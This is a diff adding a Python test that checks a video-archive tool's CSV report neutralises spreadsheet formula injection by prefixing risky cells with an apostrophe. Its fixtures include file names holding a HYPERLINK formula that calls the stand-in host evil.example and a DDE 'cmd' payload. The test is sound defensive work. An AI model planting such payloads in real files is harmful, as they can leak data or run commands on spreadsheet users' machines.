@@ -262,3 +262,31 @@ def test_report_renders_in_headless_chromium(archive_out, tmp_path):
     for label in ("voice", "song", "silence"):  # the composition bars' colours are on screen
         colour = np.array([int(LABEL_COLOURS[label][i:i + 2], 16) for i in (1, 3, 5)])
         assert (np.abs(pixels - colour).sum(axis=1) < 30).sum() > 500, f"no {label} bars in the screenshot"
+
+
+def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(archive_out):
+    # an archive file may be named anything, and an error message may quote it: a cell starting with = + - @ (or a
+    # tab / CR) runs as a formula when report.csv is opened in a spreadsheet; it gets a leading ' (OWASP)
+    dangerous = ["=HYPERLINK(\"http://evil.example/\"&A1).mp4", "+cmd|' /C calc'!A0.mp4", "-2+3.mp4",
+                 "@SUM(1+1).mp4", "\t=1+1.mp4", "\r=1+1.mp4", "\uff1d1+1.mp4"]
+    with Store.open(archive_out / DB_NAME) as store:
+        for index, path in enumerate(dangerous):
+            store.record(make_record(path, key=f"f{index}", result=make_result(path)), batch_id=None)
+        store.record(make_record("=bad.mp4", key="fb", status="failed", error="-ERR @x =1"), batch_id=None)
+    outputs = write_report(archive_out, parquet=False)
+    with open(outputs.csv, newline="", encoding="utf-8") as handle:
+        rows = {r["path"]: r for r in csv.DictReader(handle)}
+    for path in dangerous:
+        row = rows["'" + path]  # neutralised, otherwise unchanged
+        assert float(row["duration_s"]) == 60.0 and row["speakers"] == "2" and row["genre"] == "drama"
+    assert rows["'=bad.mp4"]["error"] == "'-ERR @x =1"
+    assert rows["s1/ep01.mp4"]["path"] == "s1/ep01.mp4"  # ordinary text untouched
+    # no cell of the file starts a formula; numbers (a negative one included) are left as numbers
+    for row in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    from dramapic.archive.report import ReportData, render_csv
+    from dramapic.archive.store import VideoRecord
+
+    text = render_csv(ReportData(title="t", source="s", videos=(
+        VideoRecord(path="a.mp4", status="done", duration=-1.5, genre_confidence=0.25),)))
+    assert text.splitlines()[1].startswith("a.mp4,done,-1.5,")
